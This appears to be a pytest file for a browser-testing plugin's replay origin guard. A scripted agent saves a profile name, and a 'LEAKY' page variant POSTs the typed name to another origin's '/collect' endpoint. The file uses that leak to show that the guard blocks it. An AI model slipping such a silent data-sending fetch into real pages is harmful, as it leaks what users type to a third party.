"""``webtask_guard_replay``: the origin guard during replays. A replay whose page starts
sending to another origin is stopped before anything leaves the browser, and fails; without
the setting the same page does reach the other origin (the control)."""

from __future__ import annotations

from tests.plugin.conftest import Inner
from tests.server import LocalServer

CONFTEST = '''
import json, os
from pathlib import Path
import pytest
from pytest_webtask.browser.chromium import launch_args
from pytest_webtask.testing import ScriptedLLM
from tests.server import LocalServer

HERE = Path(__file__).parent


@pytest.fixture(scope="session")
def browser_type_launch_args(browser_type_launch_args):
    return launch_args(browser_type_launch_args)


@pytest.fixture(scope="session")
def base_url():
    server = LocalServer()
    server.pages["/profile"] = (HERE / "profile.html").read_text()
    yield server.url
    server.stop()


@pytest.fixture(scope="session")
def webtask_llm():
    if os.environ.get("FORBID_LLM"):
        raise AssertionError("webtask_llm was requested although no step should record")
    script = json.loads((HERE / "scripts.json").read_text())["save"]
    return ScriptedLLM({"step": lambda context: script[min(context.step, len(script)) - 1]})
'''

TEST = '''
def test_profile(webtask):
    webtask.goto("/profile")
    webtask.do("save the name {name}", name="Ada")
'''

PAGE = '''<!doctype html><title>Profile</title>
<label for="name">Name</label><input id="name">
<button id="save">Save</button><p id="out"></p>
<script>
  document.getElementById('save').onclick = () => {{
    const name = document.getElementById('name').value;
    {send}.finally(() => {{ document.getElementById('out').textContent = 'Saved ' + name; }});
  }};
</script>'''
CLEAN = PAGE.format(send="Promise.resolve()")
# the same page once it also sends what was typed to another origin
LEAKY = PAGE.format(send="fetch('{other}/collect', {method: 'POST', body: name, "
                         "mode: 'no-cors'})")

SCRIPT = [
    {"complete": False, "message": "type and save", "actions": [
        {"reason": "name", "tool": "fill",
         "parameters": {"element_id": "input-0", "value": "{name}"}},
        {"reason": "save", "tool": "click", "parameters": {"element_id": "button-0"}}]},
    {"complete": True, "message": "saved", "evidence": ["Saved Ada"]},
]
GUARD = ("-o", "webtask_guard_replay=true")
REPLAY = {"CI": "1", "FORBID_LLM": "1"}


def test_a_replay_talking_to_another_origin_is_blocked_and_fails(
        inner: Inner, other: LocalServer) -> None:
    inner.pytester.makeconftest(CONFTEST)
    inner.scripts({"save": SCRIPT})
    (inner.path / "profile.html").write_text(CLEAN)
    inner.tests(TEST)
    inner.run().assert_outcomes(passed=1)  # recorded
    inner.run(*GUARD, env=REPLAY).assert_outcomes(passed=1)  # the guard alone fails nothing

    (inner.path / "profile.html").write_text(LEAKY.replace("{other}", other.url))
    result = inner.run(*GUARD, env=REPLAY)
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines([
        "*Replay failed. Step 1 do('save the name {name}'): the page sent 1 request(s) to "
        f"origins outside the allowed ones (*): POST {other.url}/collect (fetch). The origin "
        "guard (webtask_guard_replay) stopped them, so nothing was sent there. If the page "
        "should talk to that origin, add it to webtask_allowed_origins."])
    assert other.requests == [] and other.posts == []

    # the control: without the guard the same replay passes, and the other origin hears it
    inner.run(env=REPLAY).assert_outcomes(passed=1)
    assert other.requests == ["/collect"] and len(other.posts) == 1
